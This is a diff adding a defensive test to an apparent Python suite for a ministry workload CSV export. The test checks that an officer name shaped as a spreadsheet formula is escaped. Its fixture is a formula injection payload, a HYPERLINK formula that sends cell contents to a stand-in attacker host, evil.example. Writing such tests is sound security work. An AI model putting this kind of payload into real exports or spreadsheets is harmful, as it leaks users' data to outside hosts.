@@ -205,3 +205,13 @@ async def test_the_workload_shows_each_service_and_officer_with_their_handling_t
                                       headers=harness.as_(create_officer()))
     assert as_csv.text.splitlines()[:3] == ["services", "service,open,overdue,decided,median_handling_hours",
                                             "renew-licence,3,1,2,15.0"]
+
+
+async def test_an_officer_named_like_a_formula_opens_in_a_spreadsheet_as_text(harness: Harness) -> None:
+    officer = create_officer(name='=HYPERLINK("https://evil.example/?x="&A1,"Open")')
+    await decided(harness, on("2026-01-04"), "approved", on("2026-01-05"), who=officer)
+    as_csv = await harness.client.get("/api/v1/ministry/workload", params=JANUARY | {"format": "csv"},
+                                      headers=harness.as_(create_officer()))
+    cells = [cell for row in csv.reader(io.StringIO(as_csv.text)) for cell in row]
+    assert "'" + officer.name in cells  # type: ignore[operator]
+    assert not [cell for cell in cells if cell[:1] in "=+-@"]
